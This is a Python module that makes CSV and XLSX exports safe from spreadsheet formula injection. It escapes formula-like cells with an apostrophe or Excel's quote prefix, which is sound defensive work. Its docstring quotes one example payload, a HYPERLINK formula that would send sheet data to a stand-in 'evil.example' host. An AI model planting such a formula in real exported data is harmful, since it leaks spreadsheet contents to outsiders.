"""Spreadsheet-safe CSV and XLSX output (issue 11): OWASP's rule against formula injection.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms,
which some spreadsheets read alike) is a formula to Excel and LibreOffice: a department called
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would become a live link that sends the sheet's data away.

- CSV: such a text gets a leading apostrophe, ``'=HYPERLINK(…)``, the neutralisation OWASP recommends (the
  spreadsheet shows the text, the apostrophe tells any reader that it was escaped).
- XLSX: such a text is written as a text cell with Excel's own "quote prefix" (the value read back is the
  unchanged name; Excel will not turn it into a formula even when the cell is edited).

Numbers stay numbers: numeric values pass untouched, and so do texts that are a formatted number
(``-3,2``, ``+1.5``, ``12,5 %``), as the CSV writers put signed changes.
"""

from __future__ import annotations

import csv
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
INTEGER_FORMAT = "0"  # counts and years (docs/formatting.md)
_NUMBER = re.compile(r"[+\-\u2212]?\d[\d\u00a0 ]*(?:[.,]\d+)?(?:[\u00a0 ]?%)?")


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)


def safe_text(value: Any) -> Any:
    """A CSV cell: a text that a spreadsheet would read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_text`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeWriter:
    return SafeWriter(out, **kwargs)


# --- The one XLSX writer (issue 13): the dashboard export and the annual report's workbook ----------------


def new_workbook():
    """An empty streaming openpyxl workbook (write-only: each row is written out as it is added, so a sheet
    of 7 000 × 50 cells costs a few seconds, not twenty); fill it with :func:`add_sheet`, end with
    :func:`workbook_bytes`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


def sheet_title(title: str, workbook) -> str:
    """A valid sheet name (no ``[]:*?/\\``, at most 31 characters) not yet used in the workbook."""
    clean = "".join(ch for ch in title if ch not in "[]:*?/\\")[:31] or "Data"
    name, n = clean, 2
    while name in workbook.sheetnames:
        suffix = f" {n}"
        name = clean[: 31 - len(suffix)] + suffix
        n += 1
    return name


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _safe_cell(sheet, value: Any, *, bold: bool = False):
    """A cell for ``value`` when it needs one: a text that a spreadsheet would take as a formula (or that
    openpyxl would write as one, because it starts with ``=``) becomes a plain text cell with Excel's quote
    prefix; a header text is bold. Anything else is written as the value itself."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    dangerous = isinstance(value, str) and (value.startswith("=") or is_formula_like(value))
    if not dangerous and not bold:
        return value
    cell = WriteOnlyCell(sheet, value=value)
    if dangerous:
        cell.data_type = "s"
        cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def add_sheet(
    workbook,
    title: str,
    rows: list[list],
    *,
    header: list[str] | None = None,
    number_formats: dict[int, str] | None = None,
    widths: dict[int, float] | None = None,
    freeze: str | None = None,
):
    """A sheet of rows under a bold header (if any). ``number_formats``: a format per column (0-based) for
    its numeric cells (an integer in a column without one gets ``INTEGER_FORMAT``: a year is 2026, never
    2026,0); ``widths``: per column (1-based), else every column as wide as its longest text
    (8 to 60 characters); ``freeze``: the top-left cell that stays in view (``"A2"``: the header). Every
    text that a spreadsheet would run as a formula is written as text with the quote prefix; numbers stay
    numbers."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(title=title[:31])
    # A write-only sheet takes its columns' widths and its panes before the first row.
    if widths is not None:
        for index, width in widths.items():
            sheet.column_dimensions[get_column_letter(index)].width = width
    elif header is not None:
        for index, title_text in enumerate(header, start=1):
            width = max(
                [len(str(title_text))] + [len(str(r[index - 1])) for r in rows if index - 1 < len(r)] + [8]
            )
            sheet.column_dimensions[get_column_letter(index)].width = min(60, width + 2)
    if freeze:
        sheet.freeze_panes = freeze
    if header is not None:
        sheet.append([_safe_cell(sheet, text, bold=True) for text in header])
    # One formatted cell per column, reused row after row: a write-only sheet writes a row out when it is
    # appended, so the cell is free again for the next one.
    formatted = {}
    for column, number_format in (number_formats or {}).items():
        formatted[column] = WriteOnlyCell(sheet)
        formatted[column].number_format = number_format
    whole: dict[int, Any] = {}
    for row in rows:
        out = []
        for index, value in enumerate(row):
            cell = formatted.get(index)
            if cell is not None and _is_number(value):
                cell.value = value
                out.append(cell)
            elif isinstance(value, int) and not isinstance(value, bool):
                # A count or a year in a column without a format: a whole number, shown as one ("2026")
                if index not in whole:
                    whole[index] = WriteOnlyCell(sheet)
                    whole[index].number_format = INTEGER_FORMAT
                whole[index].value = value
                out.append(whole[index])
            else:
                out.append(_safe_cell(sheet, value))
        sheet.append(out)
    return sheet


def workbook_bytes(workbook) -> bytes:
    """The workbook as an .xlsx file (every text cell was made safe as it was written: :func:`add_sheet`)."""
    import io

    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
